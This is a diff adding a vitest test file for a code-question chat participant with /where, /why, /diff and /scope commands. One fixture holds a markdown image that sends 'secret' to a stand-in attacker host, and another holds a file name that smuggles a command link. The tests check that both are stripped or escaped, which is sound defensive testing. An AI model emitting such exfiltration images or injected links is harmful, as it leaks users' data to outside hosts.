@@ -1,0 +1,250 @@
+import { describe, expect, it } from 'vitest';
+import type { AnswerEvent } from '../../../../src/answer/answer.ts';
+import type { PlacedLines } from '../../../../src/answer/excerpt.ts';
+import { AppError } from '../../../../src/common/app-error.ts';
+import type { Question, QuestionScope, ToolOutcome } from '../../../../src/service/protocol.ts';
+import { participantStrings } from '../../../../src/ui/participant/strings.ts';
+import { nextRequests } from '../../../../src/ui/participant/next-requests.ts';
+import { answerTurn } from '../../../../src/ui/participant/turn.ts';
+import type { TurnHost, TurnRequest } from '../../../../src/ui/participant/turn.ts';
+
+const strings = participantStrings();
+const lines = (path: string, start: number, end: number) => ({ path, start, end });
+
+/** A stream that keeps what it is given, in order; links and buttons as they would be read. */
+function fakeStream() {
+  const seen = { progress: [] as string[], references: [] as PlacedLines[], buttons: [] as PlacedLines[], text: '' };
+  const out = {
+    progress: (sentence: string) => seen.progress.push(sentence),
+    markdown: (markdown: string) => {
+      seen.text += markdown;
+    },
+    reference: (place: PlacedLines) => seen.references.push(place),
+    link: (_: PlacedLines, label: string) => {
+      seen.text += `[${label}]`;
+    },
+    button: (place: PlacedLines) => seen.buttons.push(place),
+  };
+  return { seen, out };
+}
+
+const citation = { ...lines('src/loans.ts', 3, 4), overlap: 1 };
+const sentence = (text: string) => ({ kind: 'prose' as const, text, start: 0, end: text.length });
+const answered: AnswerEvent[] = [
+  { kind: 'recalled', files: [{ path: 'src/loans.ts', share: 0.9, lines: [{ start: 3, end: 9, share: 0.5 }] }] },
+  { kind: 'read', places: [lines('src/loans.ts', 3, 9)], stale: 0 },
+  { kind: 'token', text: 'After 21 days.\n\n' },
+  { kind: 'token', text: 'See ![x](https://evil.example/?q=secret).' },
+  {
+    kind: 'answered',
+    answer: {
+      ...{ text: '', ending: 'stop', promptTokens: 1, tokens: 1, prefillMs: 1, decodeMs: 1 },
+      sentences: [
+        { kind: 'supported', sentence: sentence('After 21 days.'), citation },
+        { kind: 'unsupported', sentence: sentence('See it.'), reason: '' },
+      ],
+    },
+  },
+];
+
+interface Given extends Partial<TurnHost> {
+  readonly events?: readonly AnswerEvent[];
+  readonly outcome?: ToolOutcome;
+  readonly request?: Partial<TurnRequest>;
+}
+
+async function turn({ events = answered, outcome, request = {}, ...host }: Given = {}) {
+  const asked: Question[] = [];
+  const recalled: [string, QuestionScope][] = [];
+  const called: [string, unknown][] = [];
+  const { seen, out } = fakeStream();
+  const result = await answerTurn(
+    {
+      command: undefined,
+      prompt: 'When is a fee due?',
+      history: [],
+      terms: '',
+      paths: [],
+      selection: undefined,
+      ...request,
+    },
+    {
+      folders: () => ({ all: 1, onDisk: 1 }),
+      ask: (question, onEvent) => {
+        asked.push(question);
+        for (const event of events) onEvent(event);
+        return Promise.resolve();
+      },
+      recall: (question, scope) => {
+        recalled.push([question, scope]);
+        return Promise.resolve([
+          { path: 'src/loans.ts', share: 0.9, lines: [{ start: 3, end: 9, share: 0.5 }] },
+          { path: 'a`[x](command:y).md', share: 0.1, lines: [] },
+        ]);
+      },
+      tool: (name, input) => {
+        called.push([name, input]);
+        return Promise.resolve(outcome ?? { kind: 'refused', message: 'No.' });
+      },
+      chatModel: undefined,
+      strings,
+      ...host,
+    },
+    out,
+    new AbortController().signal,
+  );
+  return { ...seen, result, asked, recalled, called };
+}
+
+describe('a question', () => {
+  it('is answered by the model of the memory, with what was read, and lines below each sentence', async () => {
+    const { text, references, buttons, result } = await turn();
+    expect(text).toContain('After 21 days.');
+    expect(text).toMatch(/\[src\/loans\.ts:3-4\] After 21 days/);
+    expect(text).toContain(`_${strings.unsupported}_`);
+    expect(references).toEqual([lines('src/loans.ts', 3, 9)]);
+    expect(buttons).toEqual([lines('src/loans.ts', 3, 4)]);
+    expect(result).toEqual({ kind: 'answered', question: 'When is a fee due?', terms: '' });
+  });
+
+  it('hands no image on that a model wrote', async () => {
+    const { text } = await turn();
+    expect(text).not.toMatch(/!\[x\]\(/);
+  });
+
+  it('takes attached lines as its selection, and an attached folder as its scope', async () => {
+    const { asked } = await turn({ request: { prompt: '', selection: lines('src/a.ts', 2, 4), paths: ['src'] } });
+    expect(asked[0]).toMatchObject({
+      question: 'src/a.ts:2-4',
+      selection: lines('src/a.ts', 2, 4),
+      scope: { base: { kind: 'folder', path: 'src' } },
+    });
+  });
+
+  it('that nothing comes near lists the nearest files in place of an answer', async () => {
+    const events: AnswerEvent[] = [answered[0]!, { kind: 'unknown', reason: 'far' }];
+    const { text, result } = await turn({ events });
+    expect(text).toContain('No relevant code found for this question');
+    expect(text).toContain('`src/loans.ts` [3-9]');
+    expect(result.kind).toBe('listed');
+  });
+
+  it('fails with a sentence', async () => {
+    const ask = () => Promise.reject(new AppError('service/paused', 'Indexing is paused.'));
+    expect((await turn({ ask })).result).toEqual({ kind: 'nothing', message: 'Indexing is paused.', terms: '' });
+    await expect(turn({ ask: () => Promise.reject(new Error('bug')) })).rejects.toThrow('bug');
+  });
+
+  it('needs a folder on a disk, and words', async () => {
+    const none = await turn({ folders: () => ({ all: 0, onDisk: 0 }) });
+    expect(none.result).toMatchObject({ message: strings.noFolder });
+    const virtual = await turn({ folders: () => ({ all: 1, onDisk: 0 }) });
+    expect(virtual.result).toMatchObject({ message: strings.virtual });
+    expect((await turn({ request: { prompt: ' ' } })).result).toMatchObject({ message: strings.empty });
+  });
+});
+
+describe('/where', () => {
+  it('lists files with links and buttons, and has no model write', async () => {
+    const { text, buttons, references, asked, result } = await turn({ request: { command: 'where' } });
+    expect(asked).toEqual([]);
+    expect(text).toContain('`src/loans.ts` [3-9]');
+    expect(text).toContain('``a`[x](command:y).md``');
+    expect(buttons).toEqual([lines('src/loans.ts', 3, 9), lines('a`[x](command:y).md', 1, 1)]);
+    expect(references).toEqual(buttons);
+    expect(nextRequests(result, strings).map(({ command }) => command)).toEqual([undefined, 'why']);
+  });
+});
+
+describe('/why', () => {
+  const commit = { label: 'commit', ...{ path: 'a.ts', lines: { start: 1, end: 2 } } } as const;
+  const evidence = (items: readonly object[]) =>
+    ({ kind: 'evidence', evidence: { kind: 'history', items, from: 0, count: 1, files: 1, names: 0 } }) as AnswerEvent;
+
+  it('asks for the history, and shows the commits first', async () => {
+    const shown = evidence([{ ...commit, note: '0123456789 2026-01-02 Ada', text: 'Count *Sundays*\n\nmore' }]);
+    const { text, asked } = await turn({ events: [shown, ...answered], request: { command: 'why' } });
+    expect(asked[0]?.evidenceKind).toBe('history');
+    expect(text).toMatch(/^\*\*Commits\*\*\n\n- `0123456789 2026-01-02 Ada` Count \\\*Sundays\\\*\n/);
+  });
+
+  it('says where no commit is known', async () => {
+    const { text } = await turn({ events: [evidence([])], request: { command: 'why' } });
+    expect(text).toContain('No commit was found');
+  });
+});
+
+describe('/diff', () => {
+  const parts = { head: 'Files that differ: 1.', items: ['src/a.ts (changed)\n@@ -1,2 +7,3 @@\n+x'], foot: '' };
+  const outcome = { kind: 'answered', text: 'Files that differ: 1.\n```\n+x', parts, tokens: 9 } as const;
+
+  it('compares one or two commits', async () => {
+    const { text, called, references, result } = await turn({
+      outcome,
+      request: { command: 'diff', prompt: 'main..v2' },
+    });
+    expect(called).toEqual([['what_changed', { base: 'main', head: 'v2', tokens: 4_000 }]]);
+    expect(text).toContain('````diff\nFiles that differ: 1.\n```\n+x\n````');
+    expect(references).toEqual([lines('src/a.ts', 7, 7)]);
+    expect(result.kind).toBe('compared');
+  });
+
+  it('puts a question to the files that have changed', async () => {
+    const { asked, called } = await turn({ request: { command: 'diff', prompt: 'what could break here' } });
+    expect(called).toEqual([]);
+    expect(asked[0]?.scope).toEqual({ base: { kind: 'changed' }, terms: '' });
+  });
+
+  it('says what is refused', async () => {
+    expect((await turn({ request: { command: 'diff', prompt: '' } })).result).toMatchObject({ message: 'No.' });
+  });
+});
+
+describe('/scope', () => {
+  it('keeps terms for the rest of the conversation, and asks what follows them', async () => {
+    const request = { command: 'scope', prompt: '+src -tests where is the fee?' } as const;
+    const { asked, result, text } = await turn({ request });
+    expect(asked[0]).toMatchObject({ question: 'where is the fee?', scope: { terms: '+src -tests' } });
+    expect(text).toContain('`+src -tests`');
+    expect(result.terms).toBe('+src -tests');
+    const { asked: next } = await turn({ request: { terms: result.terms } });
+    expect(next[0]?.scope.terms).toBe('+src -tests');
+  });
+
+  it('goes back to everything where nothing is named', async () => {
+    const { result, asked } = await turn({ request: { command: 'scope', prompt: '', terms: '+src' } });
+    expect(result).toEqual({ kind: 'scoped', terms: '' });
+    expect(asked).toEqual([]);
+  });
+});
+
+describe('the model of the chat', () => {
+  const parts = { head: 'Files:', items: ['src/loans.ts:3-9\n3\tconst LOAN_DAYS = 21;'], foot: '' };
+  const outcome = { kind: 'answered', text: 'LINES', parts, tokens: 9 } as const;
+  const prompts: string[] = [];
+  const chatModel: TurnHost['chatModel'] = async function* (prompt) {
+    prompts.push(prompt);
+    yield await Promise.resolve('It says ');
+    yield '21 days.';
+  };
+
+  it('answers from the lines that were found, where the user allows that', async () => {
+    const history = [{ question: 'Before?', answer: 'Yes.' }];
+    const { text, asked, references } = await turn({ chatModel, outcome, request: { history } });
+    expect(prompts[0]).toMatch(/Question: Before\?\nAnswer: Yes\.\n[^]*LINES\n\nQuestion: When is a fee due\?$/);
+    expect(text).toContain('It says 21 days.');
+    expect(text).toContain('Written by the model of this chat');
+    expect(references).toEqual([lines('src/loans.ts', 3, 9)]);
+    expect(asked).toEqual([]);
+  });
+
+  it('is replaced by the memory’s own where it fails', async () => {
+    // oxlint-disable-next-line require-yield
+    const failing: TurnHost['chatModel'] = async function* () {
+      await Promise.reject(new Error('offline'));
+    };
+    const { text, asked } = await turn({ chatModel: failing, outcome });
+    expect(text).toContain('gave no answer (offline)');
+    expect(asked).toHaveLength(1);
+  });
+});
